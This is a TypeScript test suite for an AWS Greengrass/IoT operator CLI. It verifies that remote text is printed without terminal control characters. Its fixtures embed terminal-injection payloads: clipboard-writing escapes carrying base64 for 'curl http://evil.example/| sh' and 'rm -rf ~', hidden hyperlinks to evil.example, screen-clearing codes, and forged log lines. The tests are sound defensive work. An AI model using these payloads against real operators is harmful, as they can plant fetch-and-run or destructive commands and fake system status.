/**
 * What a hostile device (or anyone who can write to its log, name a thing or shape a metric value) can put in front
 * of the operator: every line the tool prints from a remote source reaches the terminal without a control character.
 */
import { join } from 'node:path';
import { FilterLogEventsCommand, type FilterLogEventsCommandInput } from '@aws-sdk/client-cloudwatch-logs';
import { GetDeploymentCommand, ListEffectiveDeploymentsCommand, ListInstalledComponentsCommand } from '@aws-sdk/client-greengrassv2';
import { ListActiveViolationsCommand, ListViolationEventsCommand } from '@aws-sdk/client-iot';
import { run } from '../../../../scripts/gg/cli';
import { FakeLogGroup, readLogEventsFixture } from '../../../support/fake-cloudwatch-logs';
import { awsError, COMPONENT, type Harness, harness, makeProject, mocks, totalCalls, VERSION } from '../helpers';

const HOSTILE = readLogEventsFixture(join(__dirname, '..', 'fixtures', 'cloudwatch-logs-hostile-events.json'));
const LOG_GROUP = `/aws/greengrass/UserComponent/eu-west-1/${COMPONENT}`;
/** What a terminal acts on: C0 but tab, DEL, C1. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: the test looks for exactly these
const TERMINAL_CONTROL = /[\u0000-\u0008\u000a-\u001f\u007f-\u009f]/;
const ESC = '\u001b';

function everyLine(h: Harness): string[] {
  return [...h.lines, ...h.errors];
}

function controlLines(h: Harness): string[] {
  return everyLine(h).filter((line) => TERMINAL_CONTROL.test(line));
}

function serveHostileLog(h: Harness): FakeLogGroup {
  const group = new FakeLogGroup(LOG_GROUP, HOSTILE, () => h.deps.now().getTime());
  mocks.logs.on(FilterLogEventsCommand).callsFake((input: FilterLogEventsCommandInput) => group.filterLogEvents(input));
  return group;
}

describe('gg logs on recorded pages of a hostile log', () => {
  it('prints each of the six sequences as inert, visible text, one printed line per uploaded line', async () => {
    const h = harness(makeProject());
    const group = serveHostileLog(h);
    expect(await run(['logs', '--thing', 'core-1', '--since', '1h'], h.deps)).toBe(0);
    // Three recorded pages of two events, each followed.
    expect(group.requests.map((r) => r.nextToken)).toEqual([undefined, 'page-2', 'page-4', undefined]);
    expect(controlLines(h)).toEqual([]);
    const shown = h.lines.filter((line) => !line.startsWith('region: '));
    expect(shown).toHaveLength(6);
    expect(shown[0]).toContain('config value \\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3wgc2g=\\x07 refused');
    expect(shown[1]).toContain('see \\x1b]8;;https://evil.example/\\x1b\\the docs\\x1b]8;;\\x1b\\ for the fix');
    expect(shown[2]).toContain('\\x1b[2J\\x1b[Hreport published');
    expect(shown[3]).toContain('x\\x1b[1A\\x1b[2K\\x0d2024-12-31T23:43:00.000Z INFO  report');
    expect(shown[4]).toContain('\\x9b31m red \\x1b]0;owned\\x07');
    // The forged line stays part of the line that carried it.
    expect(shown[5]).toMatch(/WARN {2}bad\\x0a2024-12-31T23:45:00\.001Z \[INFO\] .* all good \{scriptName/);
  });

  it('--raw into a pipe keeps the bytes as uploaded', async () => {
    const h = harness(makeProject(), { stdoutIsTerminal: false });
    serveHostileLog(h);
    expect(await run(['logs', '--thing', 'core-1', '--since', '1h', '--raw'], h.deps)).toBe(0);
    const shown = h.lines.filter((line) => !line.startsWith('region: '));
    expect(shown).toEqual(HOSTILE.map((event) => event.message.replace(/\n$/, '')));
    expect(shown[2]).toContain(`${ESC}[2J`);
  });

  it.each([
    ['a terminal', { stdoutIsTerminal: true }],
    ['an output nobody said is a pipe', {}],
  ])('--raw on %s is refused before any request', async (_what, overrides) => {
    const h = harness(makeProject(), overrides);
    serveHostileLog(h);
    expect(await run(['logs', '--thing', 'core-1', '--raw'], h.deps)).toBe(2);
    expect(h.errors[0]).toMatch(/--raw keeps control characters .* pipe the output/);
    expect(totalCalls()).toBe(0);
  });
});

describe('violations and status print names, values and reasons a device chose as inert text', () => {
  const hostileViolation = {
    thingName: 'core-1',
    securityProfileName: 'rules',
    behavior: { name: 'listening-tcp-ports', metric: 'iot:custom:firmware' },
    lastViolationValue: { strings: [`v1${ESC}]52;c;ZWNobyBvd25lZA==\u0007`, `ok\n  core-2: rules / fake (forged)`] },
    violationStartTime: new Date('2025-01-01T00:00:00Z'),
  };

  it('active violations', async () => {
    mocks.iot.on(ListActiveViolationsCommand).resolves({ activeViolations: [hostileViolation] });
    const h = harness(makeProject());
    expect(await run(['violations', '--thing', 'core-1'], h.deps)).toBe(0);
    expect(controlLines(h)).toEqual([]);
    expect(h.lines).toHaveLength(3);
    expect(h.lines[2]).toContain('v1\\x1b]52;c;ZWNobyBvd25lZA==\\x07, ok\\x0a  core-2: rules / fake (forged)');
  });

  it('violation history', async () => {
    mocks.iot.on(ListViolationEventsCommand).resolves({
      violationEvents: [
        {
          thingName: 'core-1',
          securityProfileName: 'rules',
          behavior: hostileViolation.behavior,
          metricValue: hostileViolation.lastViolationValue,
          violationEventType: 'in-alarm',
          violationEventTime: new Date('2025-01-01T00:00:00Z'),
        },
      ],
    });
    const h = harness(makeProject());
    expect(await run(['violations', '--thing', 'core-1', '--since', '24h'], h.deps)).toBe(0);
    expect(controlLines(h)).toEqual([]);
    expect(h.lines).toHaveLength(3);
  });

  it("status: a failed deployment's reason and error stack", async () => {
    mocks.greengrass.on(ListEffectiveDeploymentsCommand).resolves({
      effectiveDeployments: [
        {
          deploymentId: 'dep-1',
          deploymentName: 'd',
          targetArn: 'arn:t',
          coreDeviceExecutionStatus: 'FAILED',
          creationTimestamp: new Date('2025-01-01T00:00:00Z'),
          modifiedTimestamp: new Date('2025-01-01T00:00:00Z'),
          reason: `${ESC}[2J${ESC}[Hall fine\ncore-1: deployment dep-1 SUCCEEDED`,
          statusDetails: { errorTypes: [`T${ESC}]8;;https://evil.example/${ESC}\\`], errorStack: ['A\u009b2J', 'B\rC'] },
        },
      ],
    });
    const h = harness(makeProject());
    expect(await run(['status', '--thing', 'core-1', '--deployment-id', 'dep-1'], h.deps)).toBe(1);
    expect(controlLines(h)).toEqual([]);
    expect(h.errors).toEqual(
      expect.arrayContaining([
        '  reason: \\x1b[2J\\x1b[Hall fine\\x0acore-1: deployment dep-1 SUCCEEDED',
        '  error types: T\\x1b]8;;https://evil.example/\\x1b\\',
        '  error stack: A\\x9b2J -> B\\x0dC',
      ]),
    );
  });

  it("status: a broken component's details and status codes", async () => {
    mocks.greengrass.on(GetDeploymentCommand).resolves({ components: { [COMPONENT]: { componentVersion: VERSION } } });
    mocks.greengrass.on(ListEffectiveDeploymentsCommand).resolves({
      effectiveDeployments: [
        {
          deploymentId: 'dep-1',
          deploymentName: 'd',
          targetArn: 'arn:t',
          coreDeviceExecutionStatus: 'SUCCEEDED',
          creationTimestamp: new Date('2025-01-01T00:00:00Z'),
          modifiedTimestamp: new Date('2025-01-01T00:00:00Z'),
        },
      ],
    });
    mocks.greengrass.on(ListInstalledComponentsCommand).resolves({
      installedComponents: [
        {
          componentName: COMPONENT,
          componentVersion: VERSION,
          lifecycleState: 'BROKEN',
          lifecycleStateDetails: `exit 1${ESC}]52;c;cm0gLXJmIH4=\u0007`,
          lifecycleStatusCodes: [`RUN_ERROR\n${ESC}[31mforged`],
        },
      ],
    });
    const h = harness(makeProject());
    expect(await run(['status', '--thing', 'core-1'], h.deps)).toBe(1);
    expect(controlLines(h)).toEqual([]);
    expect(h.errors).toContain('  status codes: RUN_ERROR\\x0a\\x1b[31mforged');
  });

  it("an AWS error's message", async () => {
    mocks.iot.on(ListActiveViolationsCommand).rejects(awsError('InternalFailureException', `boom${ESC}]52;c;eA==\u0007`, 500));
    const h = harness(makeProject());
    expect(await run(['violations', '--thing', 'core-1'], h.deps)).toBe(1);
    expect(controlLines(h)).toEqual([]);
    expect(h.errors[0]).toBe('error: InternalFailureException: boom\\x1b]52;c;eA==\\x07');
  });
});

describe('a flag value as typed is quoted, escaped and cut in error messages', () => {
  const typed = `${ESC}[2J${'A'.repeat(500)}`;

  it.each([
    ['deploy', ['deploy', '--thing', 'core-1', '--interval', typed]],
    ['status', ['status', '--thing', typed]],
    ['logs', ['logs', '--thing', 'core-1', '--since', typed]],
    ['violations', ['violations', '--thing', 'core-1', '--start', typed]],
    ['setup-defender', ['setup-defender', '--group', 'g', '--sns-topic-arn', typed]],
    ['setup-edge --sns-topic-arn', ['setup-edge', '--sns-topic-arn', typed]],
    ['setup-edge --create-sns', ['setup-edge', '--create-sns', typed]],
    [
      'setup-edge --metric-namespace',
      ['setup-edge', '--create-sns', 'alerts', '--metrics-sink-topic', 'agent/metrics', '--metric-namespace', typed],
    ],
    ['setup-edge --rule-name', ['setup-edge', '--create-sns', 'alerts', '--rule-name', typed]],
    ['setup-edge --role-name', ['setup-edge', '--create-sns', 'alerts', '--role-name', typed]],
    ['setup-edge --alarm-log-group', ['setup-edge', '--create-sns', 'alerts', '--alarm-log-group', typed]],
    ['setup-edge --dashboard', ['setup-edge', '--create-sns', 'alerts', '--dashboard', typed]],
    ['quarantine auto --shadow-name', ['quarantine', 'auto', 'status', '--shadow-name', typed]],
    ['quarantine auto with an unknown action', ['quarantine', 'auto', typed]],
    ['setup-defender --create-sns', ['setup-defender', '--group', 'g', '--create-sns', typed]],
    ['violations --edge --alarm-log-group', ['violations', '--edge', '--thing', 'core-1', '--since', '1d', '--alarm-log-group', typed]],
    ['status --group --metric-namespace', ['status', '--group', 'fleet', '--metric-namespace', typed]],
    ['status --group --alarm-log-group', ['status', '--group', 'fleet', '--alarm-log-group', typed]],
    ['deploy --custom-metric', ['deploy', '--thing', 'core-1', '--custom-metric', typed]],
    ['deploy --reset', ['deploy', '--thing', 'core-1', '--reset', typed]],
    ['deploy --config-json with an unknown key', ['deploy', '--thing', 'core-1', '--config-json', JSON.stringify({ [typed]: 1 })]],
    ['an unknown flag', ['deploy', `--${typed}`]],
    ['a stray argument', ['deploy', '--thing', 'core-1', typed]],
    ['a boolean flag given a value', ['deploy', '--thing', 'core-1', `--wait=${typed}`]],
    ['an unknown subcommand', [typed]],
  ])('%s', async (_what, argv) => {
    const h = harness(makeProject());
    expect(await run(argv, h.deps)).toBe(2);
    expect(controlLines(h)).toEqual([]);
    const error = h.errors[0]!;
    expect(error).toContain('\\u001b[2JAAAA');
    expect(error).toMatch(/\.\.\. \(\d+ characters\)/);
    expect(error).not.toContain('A'.repeat(100));
    expect(totalCalls()).toBe(0);
  });
});
